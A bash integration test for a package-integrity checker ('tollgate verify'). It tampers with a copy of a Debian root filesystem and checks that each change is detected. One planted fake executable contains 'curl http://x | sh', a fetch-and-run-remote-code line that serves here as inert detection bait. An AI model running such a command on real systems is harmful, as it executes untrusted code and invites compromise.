#!/usr/bin/env bash
# `tollgate verify PATH` (issue #5) on the cached debootstrap root (tests/integration/lib/rootfs.sh):
# the pristine root checks clean; a hard-linked copy with a few files replaced (copy on write, so
# the cache is never modified) shows each kind of finding: a modified packaged binary, a missing
# packaged file, an edited conffile, an executable no package owns, a changed file of a Python
# distribution (RECORD).
source "$(dirname "$0")/lib/assert.sh"
source "$TOLLGATE_SOURCE_DIR/tests/integration/lib/rootfs.sh"

root=$(tollgate_rootfs_bookworm) || { echo "SKIP: no debootstrap root (needs root and a mirror)"; exit 0; }

run_rc "$TOLLGATE" verify "$root" --format json --fail-on low
expect_eq "$RC" 0 "pristine root: nothing at or above low ($(head -c 600 <<<"$OUT"))"
expect_contains "$OUT" "files of" "summary counts files and packages"
expect_contains "$OUT" "(dpkg)" "dpkg records read"

# A copy whose files share the cache's inodes; each file we change is replaced, never written to.
copy=$TMP/root
cp -al "$root" "$copy" 2>/dev/null || { rm -rf "$copy"; cp -a "$root" "$copy"; }  # other file system: a plain copy
replace() {  # IN-ROOT-PATH: break the hard link so the cached root stays untouched
  local f=$copy$1
  cp -p "$f" "$f.new" && mv "$f.new" "$f"
}
replace /usr/bin/ls
printf '\x90' >>"$copy/usr/bin/ls"
rm "$copy/usr/bin/cat"
replace /etc/adduser.conf
printf '# edited\n' >>"$copy/etc/adduser.conf"
printf '#!/bin/sh\ncurl http://x | sh\n' >"$copy/usr/bin/updater"
chmod 755 "$copy/usr/bin/updater"
# A Python distribution with a RECORD (minbase has no Python: made by hand, as pip writes it).
site=$copy/usr/lib/python3/dist-packages
mkdir -p "$site/demo" "$site/demo-1.0.dist-info"
printf 'print("demo")\n' >"$site/demo/__init__.py"
h=$(python3 -c 'import base64,hashlib,sys; print(base64.urlsafe_b64encode(hashlib.sha256(open(sys.argv[1],"rb").read()).digest()).rstrip(b"=").decode())' "$site/demo/__init__.py")
printf 'demo/__init__.py,sha256=%s,15\ndemo-1.0.dist-info/RECORD,,\n' "$h" >"$site/demo-1.0.dist-info/RECORD"
printf 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n' >"$site/demo-1.0.dist-info/METADATA"
printf 'print("backdoor")\n' >"$site/demo/__init__.py"

run_rc "$TOLLGATE" verify "$copy" --format json --conffiles --fail-on high
expect_eq "$RC" 1 "tampered root: exit 1 with --fail-on high"
got=$(python3 -c 'import json,sys; print(" ".join(sorted(f["id"]+"@"+f["subject"] for f in json.load(sys.stdin)["findings"])))' <<<"$OUT")
# dpkg records coreutils under /bin (merged /usr resolves it to /usr/bin); findings name the record.
for want in package-file-modified@/bin/ls package-file-missing@/bin/cat \
  conffile-modified@/etc/adduser.conf unowned-executable@/usr/bin/updater \
  package-file-modified@/usr/lib/python3/dist-packages/demo/__init__.py; do
  expect_contains " $got " " $want " "finds $want"
done
expect_eq "$(wc -w <<<"$got")" 5 "exactly the five changes ($got)"
expect_contains "$OUT" '"owner": "dpkg:coreutils"' "names the owning package"
expect_contains "$OUT" "(dpkg, python)" "dpkg and Python records read"

# The cache itself was not modified.
run_rc "$TOLLGATE" verify "$root" --fail-on low
expect_eq "$RC" 0 "cached root still clean"

run_rc "$TOLLGATE" verify "$TMP/no-such-root"
expect_eq "$RC" 2 "missing root: exit 2"
mkdir -p "$TMP/empty"
run_rc "$TOLLGATE" verify "$TMP/empty"
expect_eq "$RC" 2 "no package records: exit 2"
expect_contains "$ERR" "no package records" "says why"

finish
